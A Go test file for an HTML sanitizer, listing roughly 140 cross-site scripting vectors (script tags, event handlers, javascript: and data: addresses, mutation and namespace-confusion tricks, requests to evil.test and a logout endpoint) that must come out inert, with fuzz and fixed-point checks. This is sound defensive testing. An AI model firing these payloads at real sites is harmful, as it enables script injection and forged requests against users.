package richtext

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// vectors are attacks; each must come out without anything active. They cover
// script elements, event attributes, addresses, styles, foreign vocabularies,
// raw text elements, malformed markup and mutation through re-parsing.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script\x20type="text/javascript">javascript:alert(1);</script>`,
	`<script/x>alert(1)</script>`,
	"<script\n>alert(1)</script\t>",
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="alert(1)"//`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=\"x\" \x00onerror=alert(1)>",
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="https://evil.test/pixel.gif">`,
	`<img src="//evil.test/pixel.gif">`,
	`<img src="/admin-api/infra/file/../../system/auth/logout">`,
	`<img src="/admin-api/infra/file/%2e%2e/%2e%2e/system/auth/logout">`,
	`<img src="/admin-api/infra/file/./x">`,
	`<img src="/admin-api/infra/file/a?x=1">`,
	`<img src="/admin-api/system/auth/logout">`,
	`<img src="/admin-api/infra/file/1" srcset="https://evil.test/a 2x">`,
	`<img src=/admin-api/infra/file/1 style="background:url(//evil.test)">`,
	`<img """><script>alert("x")</script>">`,
	`<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
	`<image src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="jav&#x61script&colon;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="//evil.test">x</a>`,
	`<a href="/admin-api/system/auth/logout">x</a>`,
	`<a href="blob:https://evil.test/1">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="https://ok.test" onclick="alert(1)" style="position:fixed">x</a>`,
	`<a href="https://ok.test" target="_top" rel="opener">x</a>`,
	`<a href="https://ok.test" ping="https://evil.test">x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`,
	`<p onmouseover=alert(1)>x</p>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p style="text-align:center;background:url(//evil.test/a)">x</p>`,
	`<p style="text-align:expression(alert(1))">x</p>`,
	`<p style="-moz-binding:url(//evil.test/x.xml#y)">x</p>`,
	`<p style="text-align:center;position:fixed;top:0;left:0;width:100%">x</p>`,
	`<p class="login-form" id="app" data-x="1">x</p>`,
	`<body onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code="x"></applet>`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<video src=x onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<base href="javascript:alert(1)//">`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<link rel=import href="https://evil.test/x.html">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<style>@import url(//evil.test/x.css);</style>`,
	`<style><img src=x onerror=alert(1)></style>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script xlink:href="data:,alert(1)"/></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>`,
	`<svg><desc><table><thead><s></table></s></thead></desc></svg>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<noembed><img src="</noembed><iframe onload=alert(1)>" /></noembed>`,
	`<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>`,
	`<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<title><a href="</title><img src=x onerror=alert(1)>"></title>`,
	`<textarea><a href="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<template><script>alert(1)</script></template>`,
	`<select><template><img src=x onerror=alert(1)></template></select>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
	`</p><script>alert(1)</script>`,
	`<<script>alert(1);//<</script>`,
	`<a href="https://ok.test"><script>alert(1)</script></a>`,
	`<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
	`<table><td><form><input onfocus=alert(1) autofocus></table>`,
	`<img alt="` + "`" + `><script>alert(1)</script>" src="/admin-api/infra/file/1">`,
	`<img alt="'><img src=x onerror=alert(1)>" src="/admin-api/infra/file/1">`,
	`<a href="https://ok.test/&quot;onmouseover=&quot;alert(1)">x</a>`,
	`<a href="https://ok.test/` + "`" + `onmouseover=alert(1)">x</a>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
	"<b \x0conmouseover=alert(1)>x</b>",
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	"<img src=x onerror=\xe2\x80\xa8alert(1)>",
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<custom-element onclick=alert(1)>x</custom-element>`,
	`<p is="x-evil">x</p>`,
	`<div slot=x contenteditable autofocus onfocus=alert(1)>x</div>`,
	`<a href=https://ok.test&#x09;onclick=alert(1)>x</a>`,
	`<ol start="1 onclick=alert(1)"><li>x</li></ol>`,
	`<td colspan="99999999">x</td>`,
	`<p stYle="teXt-Align:Center">x</p>`,
	"&#11",
}

var allowedAttr = map[string]string{
	"a": "href rel target", "img": "src alt width height", "td": "colspan rowspan style",
	"th": "colspan rowspan scope style", "ol": "start", "p": "style", "li": "style",
	"h1": "style", "h2": "style", "h3": "style", "h4": "style", "blockquote": "style",
}

const allowedElements = " p br hr strong b em i u s sub sup h1 h2 h3 h4 ul ol li blockquote pre code " +
	"table caption colgroup thead tbody tfoot tr th td a img "

// inspect parses out the way a browser sets innerHTML and reports whatever the
// allow-list does not know. It shares no code with the policy.
func inspect(t testing.TB, in, out string) {
	t.Helper()
	root := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), root)
	if err != nil {
		t.Fatalf("parse %q: %v", out, err)
	}
	for _, n := range nodes {
		inspectNode(t, in, n)
	}
}

func inspectNode(t testing.TB, in string, n *html.Node) {
	t.Helper()
	switch n.Type {
	case html.TextNode:
		return
	case html.ElementNode:
	default:
		t.Errorf("%q: node of type %d survived: %q", in, n.Type, n.Data)
	}
	if n.Namespace != "" || !strings.Contains(allowedElements, " "+n.Data+" ") {
		t.Errorf("%q: element %s:%s survived", in, n.Namespace, n.Data)
	}
	for _, a := range n.Attr {
		if !strings.Contains(" "+allowedAttr[n.Data]+" ", " "+a.Key+" ") {
			t.Errorf("%q: attribute %s on %s survived", in, a.Key, n.Data)
		}
		inspectValue(t, in, n.Data, a)
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		inspectNode(t, in, c)
	}
}

func inspectValue(t testing.TB, in, element string, a html.Attribute) {
	t.Helper()
	switch a.Key {
	case "href":
		u, err := url.Parse(a.Val)
		if err != nil || (u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") {
			t.Errorf("%q: address %q survived", in, a.Val)
		}
	case "src":
		u, err := url.Parse(a.Val)
		if err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(u.Path, "/admin-api/infra/file/") ||
			strings.Contains(u.Path, "..") {
			t.Errorf("%q: picture %q survived", in, a.Val)
		}
	case "rel":
		if element == "a" && !strings.Contains(a.Val, "noreferrer") {
			t.Errorf("%q: rel %q", in, a.Val)
		}
	case "style":
		// property names and keywords of CSS are not case-sensitive
		if rest, ok := strings.CutPrefix(strings.ToLower(a.Val), "text-align: "); !ok || !strings.Contains(" left right center justify ", " "+strings.TrimSuffix(rest, ";")+" ") {
			t.Errorf("%q: style %q survived", in, a.Val)
		}
	}
}

func TestSanitizeAttacks(t *testing.T) {
	if len(vectors) < 60 {
		t.Fatalf("only %d vectors", len(vectors))
	}
	for _, in := range vectors {
		out := Sanitize(in)
		inspect(t, in, out)
		if again := Sanitize(out); again != out {
			t.Errorf("%q: not a fixed point\n%q\n%q", in, out, again)
		}
	}
}

func TestSanitizeKeeps(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain", "论文 & 答辩", "论文 &amp; 答辩"},
		{"marks", "<p>甲<br/><strong>b</strong><em>i</em><u>u</u><s>s</s></p>", "<p>甲<br/><strong>b</strong><em>i</em><u>u</u><s>s</s></p>"},
		{"headings", "<h1>1</h1><h4>4</h4><h5>5</h5>", "<h1>1</h1><h4>4</h4>5"},
		{"lists", `<ul><li>a</li></ul><ol start="3"><li>b</li></ol>`, `<ul><li>a</li></ul><ol start="3"><li>b</li></ol>`},
		{"aligned", `<p style="text-align:center;color:red">x</p>`, `<p style="text-align: center">x</p>`},
		{"link", `<a href="https://ok.test/a?b=1&amp;c=2">x</a>`, `<a href="https://ok.test/a?b=1&amp;c=2" rel="noreferrer noopener" target="_blank">x</a>`},
		{"mail", `<a href="mailto:a@b.test">x</a>`, `<a href="mailto:a@b.test" rel="noreferrer">x</a>`},
		{"script link loses its address", `<a href="javascript:x">text</a>`, "text"},
		{"picture", `<img src="/admin-api/infra/file/29/get/ab_c-1.png" alt="图" width="40">`, `<img src="/admin-api/infra/file/29/get/ab_c-1.png" alt="图" width="40">`},
		{"foreign picture goes whole", `a<img src="https://x.test/a.png" alt="x">b`, "ab"},
		{"table", `<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">b</td></tr></tbody></table>`,
			`<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">b</td></tr></tbody></table>`},
		{"script text goes", "a<script>alert(1)</script>b", "ab"},
		{"unknown is unwrapped", "<article>a<span>b</span></article>", "ab"},
		{"controls go", "a\x00b\x1fc\u0085d\xffe", "abcde"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Sanitize(c.in); got != c.want {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"<p>甲</p><p>乙<br>丙</p>", "甲 乙 丙"},
		{"a<b>b</b>c", "abc"},
		{"<script>alert(1)</script>x<style>p{}</style>", "x"},
		{"1 &lt; 2 &amp;&amp; 3", "1 < 2 && 3"},
		{"<table><tr><td>a</td><td>b</td></tr></table>", "a b"},
		{"<svg><text>x</text></svg>y", "y"},
		{"a\x00&#0;b", "a\ufffdb"},
		{"</script>still here", "still here"},
	} {
		if got := Text(c.in); got != c.want {
			t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSanitizeIsLinear(t *testing.T) {
	for _, unit := range []string{"<p>", "<table><tr><td>", "<a href='https://x.test'>", "<", "&", "<img ", "<!--"} {
		in := strings.Repeat(unit, 200_000/len(unit))
		if out := Sanitize(in); Sanitize(out) != out {
			t.Errorf("%q repeated: no fixed point", unit)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Add(`<p style="text-align:center">x<a href="https://a.test/?q=%zz&amp;b">y</a></p>`)
	f.Fuzz(func(t *testing.T, in string) {
		out := Sanitize(in)
		if again := Sanitize(out); again != out {
			t.Fatalf("not a fixed point:\nin    %q\nonce  %q\ntwice %q", in, out, again)
		}
		inspect(t, in, out)
		Text(in)
	})
}
